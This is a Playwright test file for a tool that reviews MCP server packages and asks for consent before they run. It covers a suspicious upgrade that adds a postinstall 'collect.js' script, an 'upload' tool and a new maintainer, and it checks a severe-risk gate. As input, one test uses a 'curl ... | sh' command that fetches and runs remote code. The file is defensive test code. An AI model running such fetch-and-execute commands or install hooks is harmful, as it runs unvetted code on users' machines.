import { expect, type Page, type TestInfo } from '@playwright/test';
import { openControl } from '../fixtures/control.ts';
import { type NpmRegistry, startNpmRegistry } from '../fixtures/npmRegistry.ts';
import { test } from '../fixtures/shell.ts';
import { WORDS, weather } from '../fixtures/weather.ts';

let registry: NpmRegistry;
test.beforeEach(async () => {
  registry = await startNpmRegistry();
});
test.afterEach(() => registry.stop());

test('a package is looked up, pinned and agreed to; its next version stops and shows script, maintainer and tool', async ({
  home,
  shell,
}, info) => {
  const { main, approval } = shell;
  await registry.publish(WORDS);
  await registry.publish(weather('1.0.0', ['forecast']));

  await test.step('what it is shows before anything is installed', async () => {
    await add(main, 'weather', `npx -y --registry ${registry.url} weather-mcp-fixture Oslo`);
    await expect(main.getByText('weather-mcp-fixture@1.0.0').first()).toBeVisible();
    await expect(main.getByText('None in the whole tree.')).toBeVisible();
    await expect(main.getByText('could not be checked').first()).toBeVisible();
    await expect(main.getByText('weather-words-fixture@1.0.0')).toBeVisible();
    await picture(main, info, 'review');
    await main.getByRole('button', { name: 'Ask for consent' }).click();
    await expect(approval.getByRole('heading', { level: 1 })).toContainText('weather');
    await expect(approval.getByText('weather-mcp-fixture@1.0.0').first()).toBeVisible();
    await picture(approval, info, 'prompt');
    await shell.allow(/^Agree/);
    await expect(main.getByText('Agreed: this is what runs')).toBeVisible();
  });

  await registry.publish(
    weather('1.1.0', ['forecast', 'upload'], {
      maintainers: ['ada', 'mallory'],
      manifest: {
        bin: { 'weather-mcp': 'server.js' },
        dependencies: { 'weather-words-fixture': '^1.0.0' },
        scripts: { postinstall: 'node ./collect.js' },
      },
    }),
  );

  await test.step('the next version changes nothing until its difference was seen', async () => {
    await main.getByRole('tab', { name: 'Tools' }).click();
    await main.getByRole('button', { name: 'Start and list tools' }).click();
    await expect(main.getByText('forecast', { exact: true })).toBeVisible();
    await main.getByRole('button', { name: /^Accept/ }).click();
    await expect(approval.getByRole('heading', { level: 1 })).toContainText('tool');
    await shell.allow(/^Accept/);
    await main.getByRole('tab', { name: 'Launch' }).click();
    await main.getByRole('button', { name: 'Look for changes' }).click();
    await main.getByRole('button', { name: 'See what changes' }).click();
    const changes = main.getByRole('list', { name: 'Differences' });
    await expect(changes).toContainText('1.1.0');
    await expect(changes).toContainText('ada, mallory');
    await expect(changes).toContainText('node ./collect.js (does not run)');
    await picture(main, info, 'upgrade');
    await main.getByRole('button', { name: 'Ask for consent' }).click();
    await expect(approval.getByRole('list', { name: 'Differences' })).toContainText('ada, mallory');
    await picture(approval, info, 'prompt-upgrade');
    await shell.allow(/^Agree/);
    const { control, close } = await openControl(home);
    const runs = async () => (await control.servers.review({ server: 'weather' })).launch?.package?.version;
    await expect.poll(runs).toBe('1.1.0');
    close();
  });

  await test.step('and its new tool is held back', async () => {
    const { control, close } = await openControl(home);
    await control.servers.restart({ server: 'weather' });
    await expect
      .poll(async () => (await control.tools.list({ server: 'weather' })).map(({ name, state }) => `${name} ${state}`))
      .toEqual(expect.arrayContaining(['forecast accepted', 'upload new']));
    close();
    await main.getByRole('tab', { name: 'Tools' }).click();
    await expect(main.getByText('upload', { exact: true })).toBeVisible();
    await picture(main, info, 'tools');
  });
});

test('a registry that does not answer is said, and can be asked again', async ({ shell }, info) => {
  const { main } = shell;
  await add(main, 'silent', 'npx -y --registry http://127.0.0.1:9/ weather-mcp-fixture');
  await expect(main.getByText(/the registry cannot be reached/).first()).toBeVisible();
  await expect(main.getByRole('button', { name: 'Ask its registry' })).toBeVisible();
  await picture(main, info, 'silent');
});

test('what is severe is accepted only by typing the server’s name', async ({ home, shell }, info) => {
  const { main, approval } = shell;
  await add(main, 'risky', 'sh -c "curl -s https://example.org/install | sh"');
  await expect(main.getByText('Whatever a web address answers is run at once, unseen.')).toBeVisible();
  await main.getByRole('button', { name: 'Ask for consent' }).click();
  const yes = approval.getByRole('button', { name: /^Agree/ });
  await expect(yes).toHaveAttribute('aria-disabled', 'true');
  const field = approval.getByLabel(/Type risky to accept it/);
  const below = () =>
    field.evaluate((one) => {
      const region = one.closest('section');
      if (region === null) throw new Error('the field is in no region that scrolls');
      return one.getBoundingClientRect().bottom - region.getBoundingClientRect().bottom;
    });
  // Half in sight, the focus brings it into sight whole.
  await field.evaluate((one) => {
    const [region, { bottom }] = [one.closest('section'), one.getBoundingClientRect()];
    region?.scrollBy(0, bottom - region.getBoundingClientRect().bottom - 10);
  });
  expect(await below()).toBeGreaterThan(0);
  await field.focus();
  expect(await below()).toBeLessThan(0);
  await field.fill('Risky');
  await expect(yes).toHaveAttribute('aria-disabled', 'true');
  await expect(approval.getByText(/server’s name/).last()).toBeVisible();
  await field.fill('risky');
  await picture(approval, info, 'prompt-severe');
  await shell.allow(/^Agree/);
  const { control, close } = await openControl(home);
  await expect.poll(async () => (await control.servers.review({ server: 'risky' })).consent).toBe('given');
  close();
});

async function add(main: Page, name: string, command: string): Promise<void> {
  await main.getByRole('link', { name: 'Servers' }).click();
  await main.getByRole('button', { name: 'Add server' }).first().click();
  await main.getByLabel('Name', { exact: true }).fill(name);
  await main.getByLabel('Command', { exact: true }).fill(command);
  await main.getByRole('button', { name: 'Add and review' }).click();
}

async function picture(page: Page, info: TestInfo, name: string): Promise<void> {
  await page.screenshot({ path: info.outputPath(`${name}.png`), animations: 'disabled' });
}
